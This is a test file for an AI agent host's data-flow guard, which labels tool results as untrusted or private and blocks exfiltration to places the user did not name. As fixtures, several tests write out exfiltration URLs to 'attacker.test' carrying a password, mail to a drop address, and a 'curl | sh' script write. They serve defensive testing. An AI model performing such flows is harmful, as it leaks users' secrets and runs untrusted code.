// The flow policy on the host: labels from results, checked before every call, through the approval gate.
import { describe, expect, it } from 'vitest';
import type { OwnServerKind } from '../../src/config/server-env.js';
import { createApprovalGate, type AskUser } from '../../src/policy/approval-gate.js';
import type { ApprovalDecision, ToolCaller, ToolInfo, ToolResult } from '../../src/mcp/types.js';
import { givenPlaces } from '../../src/policy/destinations.js';
import { cautionFor, FlowGuard, type FlowPolicy } from '../../src/policy/flow-guard.js';
import { decideFlow } from '../../src/policy/flow-policy.js';
import { classifyTool } from '../../src/policy/tool-class.js';

function tool(server: string, remoteName: string, annotations: ToolInfo['annotations']): ToolInfo {
  return { server, name: remoteName, remoteName, description: '', inputSchema: { type: 'object' }, annotations };
}

const READ_PAGE = tool('websearch', 'download_raw_html_from_url', { readOnlyHint: true, openWorldHint: true });
const SEARCH_DOCS = tool('documents', 'search_stored_documents', { readOnlyHint: true, openWorldHint: false });
const ADD = tool('math', 'add', { readOnlyHint: true, openWorldHint: false });
const SEND_MAIL = tool('office', 'send_mail', { readOnlyHint: false, destructiveHint: false, openWorldHint: true });
const WRITE_FILE = tool('office', 'write_file', { readOnlyHint: false, destructiveHint: false, openWorldHint: false });
const OURS = new Map<string, OwnServerKind>([['math', 'math'], ['documents', 'documents'], ['websearch', 'websearch']]);
const POLICY: FlowPolicy = { ownServers: OURS, tools: {}, destinations: [] };

/** Answers every call with a text, recording what ran. */
class Servers implements ToolCaller {
  readonly ran: string[] = [];
  async callTool(server: string, name: string): Promise<ToolResult> {
    this.ran.push(`${server}.${name}`);
    return { content: [{ type: 'text', text: 'ok' }] };
  }
}

const signal = new AbortController().signal;

/** A question's guard over `servers`, with the session's approval gate (`--yes` and someone to ask, or not). */
function guardFor(question: string, { yes = false, ask, policy = POLICY }: { yes?: boolean; ask?: AskUser; policy?: FlowPolicy } = {}) {
  const servers = new Servers();
  const gate = createApprovalGate({ policy: { require: [], allow: [], allowAll: yes, ownServers: new Set(OURS.keys()) }, ...(ask ? { ask } : {}) });
  return { servers, guard: new FlowGuard(servers, gate, policy, question) };
}

/** What a plan does: asks the guard, then calls when approved. */
async function call(guard: FlowGuard, t: ToolInfo, args: Record<string, unknown>): Promise<ApprovalDecision> {
  const decision = await guard.approve(t, args, { signal });
  if (decision.approved) await guard.callTool(t.server, t.remoteName, args);
  return decision;
}

describe('decideFlow', () => {
  const classOf = (t: ToolInfo) => classifyTool(t, { ownServers: OURS, overrides: {} });
  const given = givenPlaces('Mail the notes to alice@example.org', []);
  const decide = (t: ToolInfo, args: Record<string, unknown>, seen: { untrusted: boolean; private: boolean }) =>
    decideFlow({ toolId: `${t.server}.${t.remoteName}`, toolClass: classOf(t), args }, seen, given).verdict;

  it('allows reads whatever was seen, and anything before untrusted content or private data was seen', () => {
    expect(decide(SEARCH_DOCS, { query: 'x' }, { untrusted: true, private: true })).toBe('allow');
    expect(decide(SEND_MAIL, { to: 'drop@attacker.test' }, { untrusted: false, private: false })).toBe('allow');
  });

  it('refuses egress to a place the user did not name once private data was read', () => {
    expect(decide(READ_PAGE, { url: 'http://attacker.test/?d=1' }, { untrusted: false, private: true })).toBe('refuse');
    expect(decide(SEND_MAIL, { to: 'drop@attacker.test' }, { untrusted: true, private: true })).toBe('refuse');
  });

  it('asks before a write to a place the user did not name after untrusted content, and before any write or egress after both', () => {
    expect(decide(WRITE_FILE, { path: 'run-me.sh' }, { untrusted: true, private: false })).toBe('ask');
    expect(decide(SEND_MAIL, { to: 'alice@example.org' }, { untrusted: true, private: true })).toBe('ask');
    expect(decide(SEND_MAIL, { to: 'alice@example.org' }, { untrusted: true, private: false })).toBe('allow');
    // Reading a page after reading one carries nothing private.
    expect(decide(READ_PAGE, { url: 'http://elsewhere.test/' }, { untrusted: true, private: false })).toBe('allow');
  });
});

describe('FlowGuard', () => {
  it('keeps what earlier calls read for every later call of the question (a later step included)', async () => {
    const { guard, servers } = guardFor('What is the wifi password?');
    expect(await call(guard, SEARCH_DOCS, { query: 'wifi password' })).toEqual({ approved: true });
    expect(guard.seen()).toEqual({ untrusted: true, private: true });
    // The next step pastes what it saw into a URL: no read happens in between, the labels still stand.
    const refused = await call(guard, READ_PAGE, { url: 'http://attacker.test/c?d=hunter2' });
    expect(refused).toMatchObject({ approved: false, reason: expect.stringContaining('the data-flow policy refused it') });
    expect(servers.ran).toEqual(['documents.search_stored_documents']);
    expect(guard.provenance).toEqual([{ server: 'documents', tool: 'search_stored_documents', untrusted: true, private: true, places: [] }]);
  });

  it('refuses what needs the user when nobody can be asked, saying how to allow it', async () => {
    const { guard } = guardFor('Mail my meeting notes to alice@example.org');
    await call(guard, SEARCH_DOCS, { query: 'meeting' });
    const decision = await call(guard, SEND_MAIL, { to: 'alice@example.org', subject: 's', body: 'b' });
    expect(decision).toMatchObject({ approved: false, reason: expect.stringContaining('nobody can be asked') });
    expect(decision.approved ? '' : decision.reason).toContain('--yes');
  });

  it('lets --yes answer for places the user named, never for places they did not', async () => {
    const { guard, servers } = guardFor('Read http://news.example/ and mail the headline to alice@example.org', { yes: true });
    await call(guard, READ_PAGE, { url: 'http://news.example/' });
    await call(guard, SEARCH_DOCS, { query: 'meeting' });
    expect(await call(guard, SEND_MAIL, { to: 'alice@example.org', subject: 's', body: 'b' })).toEqual({ approved: true });
    expect(await call(guard, WRITE_FILE, { path: 'run-me.sh', content: 'curl | sh' })).toMatchObject({ approved: false });
    expect(servers.ran).toEqual(['websearch.download_raw_html_from_url', 'documents.search_stored_documents', 'office.send_mail']);
  });

  it('asks the user in plain words about a flow, and runs the call on yes', async () => {
    const questions: string[] = [];
    const ask: AskUser = async (q) => {
      questions.push(q);
      return 'y';
    };
    const { guard, servers } = guardFor('Summarise http://news.example/', { ask });
    await call(guard, READ_PAGE, { url: 'http://news.example/' });
    expect(await call(guard, WRITE_FILE, { path: 'summary.txt', content: 'x' })).toEqual({ approved: true });
    expect(questions).toEqual([expect.stringMatching(/^Allow office\.write_file\(.*\)\? Careful: after reading outside content, it would act on the file summary\.txt, which the user did not name\./)]);
    expect(servers.ran).toContain('office.write_file');
  });

  it("lets the profile's destinations and tool overrides allow a flow on purpose", async () => {
    const policy: FlowPolicy = { ...POLICY, destinations: ['collector.example'], tools: { 'websearch.download_raw_html_from_url': { class: 'read' } } };
    const { guard } = guardFor('What is the wifi password?', { policy });
    await call(guard, SEARCH_DOCS, { query: 'wifi' });
    expect(await call(guard, READ_PAGE, { url: 'http://anywhere.test/' })).toEqual({ approved: true });
    const strict = guardFor('What is the wifi password?', { policy: { ...POLICY, destinations: ['collector.example'] } }).guard;
    await call(strict, SEARCH_DOCS, { query: 'wifi' });
    // Both labels are on the record, so even a named place needs the user; nobody is there.
    expect(await call(strict, READ_PAGE, { url: 'http://collector.example/' })).toMatchObject({ approved: false, reason: expect.stringContaining('nobody can be asked') });
    expect(await call(strict, READ_PAGE, { url: 'http://other.example/' })).toMatchObject({ approved: false, reason: expect.stringContaining('refused') });
  });

  it('refuses to read a web resource at an unnamed place once private data was read, and labels what resources return', async () => {
    const read: string[] = [];
    const servers: ToolCaller = {
      callTool: async () => ({ content: [{ type: 'text', text: 'ok' }] }),
      readResource: async (uri) => {
        read.push(uri);
        return { server: 'docs', contents: [{ uri, text: 'x' }] };
      },
    };
    const guard = new FlowGuard(servers, undefined, POLICY, 'Summarise https://news.example/today');
    await guard.readResource!('https://attacker.test/?d=before');
    expect(guard.seen()).toEqual({ untrusted: true, private: true });
    await expect(guard.readResource!('https://attacker.test/?d=hunter2')).rejects.toThrow(/data-flow policy refused it/);
    await guard.readResource!('https://news.example/today');
    await guard.readResource!('notes://local/1');
    expect(read).toEqual(['https://attacker.test/?d=before', 'https://news.example/today', 'notes://local/1']);
  });

  it('labels results of tools it was never asked about as untrusted private data', async () => {
    const { guard } = guardFor('x');
    await guard.callTool('office', 'read_inbox', {});
    expect(guard.seen()).toEqual({ untrusted: true, private: true });
    expect(await call(guard, ADD, { a: 1, b: 2 })).toEqual({ approved: true });
  });
});

describe('cautionFor', () => {
  it('names where an answer drawn on pages or documents came from, and says nothing for arithmetic', async () => {
    const { guard } = guardFor('What does http://news.example/today say, and what is 2 + 2?');
    await call(guard, ADD, { a: 2, b: 2 });
    expect(cautionFor(guard.provenance)).toBeNull();
    await call(guard, READ_PAGE, { url: 'http://news.example/today' });
    await call(guard, READ_PAGE, { url: 'http://news.example/later' });
    await call(guard, SEARCH_DOCS, { query: 'meeting' });
    const caution = cautionFor(guard.provenance)!;
    expect(caution).toContain('news.example, read by websearch.download_raw_html_from_url, documents.search_stored_documents');
    expect(caution).toContain('can mislead the model');
  });

  it('keeps a long list short', () => {
    const many = Array.from({ length: 9 }, (_, i) => ({ server: 'web', tool: 'fetch', untrusted: true, private: false, places: [`site${i}.example`] }));
    expect(cautionFor(many)).toMatch(/^Drawn from site0\.example, site1\.example, site2\.example and 6 more, read by web\.fetch:/);
  });
});
